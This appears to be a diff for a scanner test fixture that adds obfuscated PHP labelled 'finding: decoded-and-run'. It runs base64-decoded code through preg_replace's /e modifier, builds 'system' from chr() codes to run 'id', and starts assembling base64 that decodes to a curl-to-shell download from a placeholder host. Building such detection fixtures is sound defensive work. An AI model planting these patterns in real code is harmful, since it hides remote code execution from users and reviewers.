@@ -22,6 +22,13 @@ class Cache
     }
 }
 
+function modifier($subject)
+{
+    preg_replace('/.*/e', base64_decode(BODY), $subject); // finding: decoded-and-run
+    $run = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);
+    call_user_func($run, 'id'); // finding: decoded-and-run
+}
+
 function command()
 {
     $parts = ['Y3VybCBodHRwczovL2Eu', 'ZXhhbXBsZSB8IHNo'];
